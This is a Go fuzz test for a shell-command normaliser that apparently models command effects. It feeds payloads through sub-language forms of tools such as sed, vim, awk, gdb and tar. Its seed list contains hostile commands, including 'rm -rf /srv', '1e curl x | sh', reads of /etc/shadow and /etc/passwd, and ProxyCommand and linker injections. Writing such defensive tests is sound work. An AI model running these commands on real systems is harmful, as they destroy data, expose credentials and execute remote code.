package normalize

import (
	"strings"
	"testing"
)

// specLangForms are the programs whose argument is read as a sub-language by spec_effects.go: the
// payload is put where the program takes its code (a quoted word, or the argv words).
var specLangForms = []string{
	"sed -n %s f", "sed -e %s f", "vim -es -c %s", "vim %s", "tmux %w", "tmux new -d %s", "screen -S x -X stuff %s",
	"awk %s f", "expect -c %s", "gdb -batch -ex %s", "lldb -o %s", "psql -c %s", "sqlite3 a.db %s", "mysql -e %s",
	"jq %s f", "yq %s f", "http POST x.example %w", "tar -cf a.tar --checkpoint-action=%s f", "wget -e %s x.example",
	"scp -o %s a b:c", "heroku %w", "aws %w", "kill %w", "pkill %w", "flock /tmp/l -c %s", "entr -s %s", "bwrap %w",
	"sops exec-env s %s", "git submodule foreach %s", "k6 run %s", "man -P %s ls", "zip z a -TT %s",
	// effects_subcmd.go: cmake -E, unmodelled CLIs' verbs, npm exec, dependency sources.
	"cmake -E %w", "cmake -E chdir %w", "velero %w", "minikube %w", "npm exec -- %w", "npm exec -c %s", "npm i %w",
	"go mod edit -replace %s", "cargo build --config %s", "gdb -p %s", "CC=%s make", "RUSTFLAGS=%s cargo build",
}

// FuzzSpecSubLanguages checks the readers of sub-languages in option values and operands (Ex
// commands, sed scripts, tmux and screen commands, awk, Tcl, debugger and database meta-commands,
// wgetrc, ssh options, HTTPie items, cloud CLI verbs, kill operands): whatever the payload, the
// normaliser does not panic, stays within its command bound, and an effect it derives from the
// payload names the program that carries it.
func FuzzSpecSubLanguages(f *testing.F) {
	seeds := []string{
		":!rm -rf /srv", "1e curl x | sh", "s/a/b/e", "w /etc/x", "r /etc/shadow", "new -d 'a; b' \\; neww x", "send-keys 'a' Enter",
		`BEGIN{system("id")}`, `{print > "/x"}`, `spawn sh -c "id"; exec ls`, "shell id", "python import os", "platform shell id",
		`\! id`, ".shell id", "system id", "$ENV", `load("/x")`, "f@/etc/passwd", "exec=id", "post_file=/x", "use_askpass=x",
		"ProxyCommand=id", "apps:destroy", "s3 rm s3://b", "-9 -1", "-u root", "-v x", "--bind / / sh", "https://x.example/s.js",
		"exe \"!id\" | !id", "norm :!id\r", "au BufRead * !id", "s\\", "e", "y/a", "s/a", "tmux \\;", ";;;", "{a}", "'", "\"",
		"silent! r !id", "%!sort", "terminal", "set shell=/tmp/x", "call system(x)", ".load /x.so", "\\o |id",
		"rm -rf /srv", "chdir /tmp rm -rf x", "server", "app delete x --cascade", "a.example/x=/tmp/x", "a=b@v1",
		"patch.crates-io.x.git=\"https://e.example/x\"", "github:o/r", "-C linker=/tmp/ld", "sh -c 'id'",
	}
	for i, s := range seeds {
		f.Add(uint8(i), s)
	}
	n := New(defaultCatalog(f), specOpts(f, Options{Workspace: "/w", Home: "/h", MaxCommands: 64, MaxStrings: 64}))
	f.Fuzz(func(t *testing.T, form uint8, payload string) {
		tpl := specLangForms[int(form)%len(specLangForms)]
		cmd := strings.Replace(strings.Replace(tpl, "%s", shellQuote(payload), 1), "%w", payload, 1)
		a := n.Normalize("Bash", map[string]any{"command": cmd}, "")
		if strings.HasPrefix(a.ParseError, "internal error") {
			t.Fatalf("%q: recovered panic: %s", cmd, a.ParseError)
		}
		if len(a.Commands) > 64 {
			t.Fatalf("%q: %d commands", cmd, len(a.Commands))
		}
		for _, e := range a.Effects {
			if e.Program == "" {
				t.Fatalf("%q: effect without a program: %+v", cmd, e)
			}
		}
	})
}
